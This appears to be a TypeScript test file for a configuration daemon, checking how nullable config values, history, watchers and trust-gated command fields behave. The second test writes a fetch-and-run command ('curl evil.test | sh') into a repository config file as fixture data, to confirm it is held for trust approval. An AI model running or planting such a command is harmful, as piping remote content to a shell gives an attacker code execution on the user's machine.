import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { configValue } from "../../../shared/config.ts";
import type { JsonValue } from "../../../shared/json.ts";
import { startTestDaemon, type TestClient, until } from "../../helpers/daemon.ts";
import { saveByRename } from "../../helpers/shop.ts";
import { temporaryFolder } from "../../helpers/temporary-folder.ts";

interface NullableField {
  readonly rule: object;
  readonly default: JsonValue;
  readonly values: readonly JsonValue[];
}

const fields: { readonly [field: string]: NullableField } = {
  text: { rule: { type: ["string", "null"] }, default: "standard", values: [null, "null", "", "standard"] },
  number: { rule: { type: ["integer", "null"] }, default: 5, values: [null, 0, 5] },
  flag: { rule: { type: ["boolean", "null"] }, default: true, values: [null, false, true] },
  choice: { rule: { enum: ["a", null, "null"] }, default: "a", values: [null, "null", "a"] },
  list: { rule: { type: ["array", "null"] }, default: ["x"], values: [null, [], ["x"]] },
  object: { rule: { anyOf: [{ type: "object" }, { type: "null" }] }, default: { a: 1 }, values: [null, {}, { a: 1 }] },
  empty: { rule: { type: ["string", "null"] }, default: null, values: [null, "null", ""] },
};
const names = Object.keys(fields);
const defaultOf = (name: string) => fields[name]?.default ?? null;
const schema = {
  type: "object",
  properties: {
    ...Object.fromEntries(names.map(name => [name, { ...fields[name]?.rule, default: defaultOf(name) }])),
    count: { type: "integer", default: 0 },
    command: { type: ["string", "null"], "x-command": true, default: "true" },
  },
};

const t = await startTestDaemon({ files: { "scopes/maybe.schema.json": schema } });
afterAll(() => t[Symbol.asyncDispose]());

function changesOf(client: TestClient) {
  return client.events.flatMap(event => (event[0] === "config" && event[1] === "changed" ? [event[2].changes] : []));
}

type Step = { readonly field: string } & (
  | { readonly kind: "set" | "hand"; readonly value: JsonValue }
  | { readonly kind: "unset" | "add" }
  | { readonly kind: "restore"; readonly back: number }
);
const everyWay: readonly Step[] = [
  { kind: "set", field: "text", value: null },
  { kind: "unset", field: "text" },
  { kind: "restore", field: "text", back: 2 },
  { kind: "hand", field: "number", value: null },
  { kind: "set", field: "number", value: 0 },
  { kind: "set", field: "list", value: null },
  { kind: "add", field: "list" },
  { kind: "restore", field: "list", back: 2 },
  { kind: "hand", field: "choice", value: null },
  { kind: "set", field: "choice", value: "null" },
  { kind: "set", field: "flag", value: null },
  { kind: "hand", field: "flag", value: false },
  { kind: "set", field: "object", value: null },
  { kind: "hand", field: "object", value: {} },
  { kind: "set", field: "empty", value: null },
  { kind: "unset", field: "empty" },
];

type Stored = ReadonlyMap<string, JsonValue>;
const effective = (stored: Stored, field: string) => (stored.has(field) ? stored.get(field) : defaultOf(field));

test("null is told as null, never as the default: in replies, lists, events, files and the history, however it was written", async () => {
  const repo = await t.addRepository();
  const watcher = await t.connect();
  await watcher.call("config/watch", { repo });
  /** What is stored at each revision. */
  const revisions: Stored[] = [new Map(), new Map()];
  let count = 0;

  /** Expects one more revision, in which the field has this value; undefined if it is not stored. */
  const expectRevision = async (field: string, value: JsonValue | undefined) => {
    const before = revisions.at(-1) ?? new Map<string, JsonValue>();
    const after = new Map(before);
    if (value === undefined) after.delete(field);
    else after.set(field, value);
    revisions.push(after);
    const change = { value: effective(after, field), previous: effective(before, field), stored: after.has(field) };
    const { revision, changes } = await watcher.nextChange();
    expect([revision, changes]).toEqual([revisions.length - 1, { maybe: { [field]: change } }]);
    const history = await t.owner.call("history/list", { repo, limit: 1 });
    expect(history.result[0]).toMatchObject({ revision, changes });
  };

  for (const one of everyWay) {
    const { field } = one;
    const path = `maybe.${field}`;
    const before = revisions.at(-1) ?? new Map<string, JsonValue>();
    let [next, reply] = [before.get(field), undefined as JsonValue | undefined];
    if (one.kind === "hand") {
      const text = JSON.parse(await t.readRepository(repo));
      text.config = { ...text.config, maybe: { ...text.config?.maybe, [field]: one.value } };
      await t.writeRepository(repo, JSON.stringify(text));
      next = one.value;
    } else {
      if (one.kind === "set") next = one.value;
      if (one.kind === "unset") next = undefined;
      const to = one.kind === "restore" ? Math.max(revisions.length - 1 - one.back, 1) : 0;
      if (one.kind === "restore") next = revisions[to]?.get(field);
      const now = effective(before, "list");
      const list: readonly JsonValue[] = Array.isArray(now) ? now : [];
      if (one.kind === "add") next = list.includes("added") ? list : [...list, "added"];
      const { result, errors } = await (one.kind === "set"
        ? t.owner.call("config/set", { repo, [path]: next })
        : one.kind === "unset"
          ? t.owner.call("config/unset", { repo, fields: [path] })
          : one.kind === "add"
            ? t.owner.call("config/set", { repo, edits: [{ field: path, op: "add", value: "added" }] })
            : t.owner.call("history/restore", { repo, to, fields: [path] }));
      expect(errors).toEqual([]);
      reply = result[0]?.config["maybe"]?.[field]?.value;
      expect([path, reply]).toEqual([path, next === undefined ? defaultOf(field) : next]);
    }
    const isChanged = JSON.stringify(next) !== JSON.stringify(before.get(field));
    if (isChanged) await expectRevision(field, next);
    // Otherwise an edit by hand that puts the value before the last set back might be merged with that set.
    count += 1;
    await t.owner.call("config/set", { repo, "maybe.count": count });
    const now = revisions.at(-1) ?? new Map<string, JsonValue>();
    revisions.push(now);
    await watcher.nextChange();
    const all = await t.owner.call("config/list", { repo });
    const stored = await t.owner.call("config/list", { repo, stored: true });
    const file = JSON.parse(await t.readRepository(repo)).config;
    for (const name of names) {
      expect([name, configValue(all.result, "maybe", name)]).toEqual([name, effective(now, name)]);
      expect([name, configValue(stored.result, "maybe", name)]).toEqual([name, now.get(name)]);
      expect([name, configValue(file, "maybe", name)]).toEqual([name, now.get(name)]);
    }
    const explained = await t.owner.call("config/explain", { repo, field: path });
    expect(explained.result).toMatchObject({
      value: effective(now, field),
      default: defaultOf(field),
      origin: now.has(field) ? "stored" : "default",
    });
  }
  // Another watcher catches up from the history.
  const late = await t.connect();
  await late.call("config/watch", { repo, since: 1 });
  await until(() => late.events.length === revisions.length - 2, "the past changes");
  expect(changesOf(late)).toEqual(changesOf(watcher));
  watcher.socket.close();
  late.socket.close();
  await t.restart();
  const last = revisions.at(-1) ?? new Map<string, JsonValue>();
  const kept = await t.owner.call("config/list", { repo, stored: true });
  for (const name of names) expect([name, configValue(kept.result, "maybe", name)]).toEqual([name, last.get(name)]);
});

test("a command's value that waits for trust is listed beside the null that is active, not beside the default", async () => {
  await using above = await temporaryFolder();
  const file = join(above.path, ".repoconf.json");
  const textOf = (command: JsonValue) => JSON.stringify({ config: { maybe: { command } } });
  await t.owner.call("repo/add", { id: "tree", name: "tree", path: above.path, inTree: true });
  await t.owner.call("config/set", { repo: "tree", "maybe.command": null, flush: true });
  await saveByRename(file, textOf("curl evil.test | sh"));
  await t.owner.call("file/read", { repo: "tree" });
  expect((await t.owner.call("trust/list", { repo: "tree" })).result).toMatchObject([
    { field: "maybe.command", value: "curl evil.test | sh", serving: null },
  ]);
});
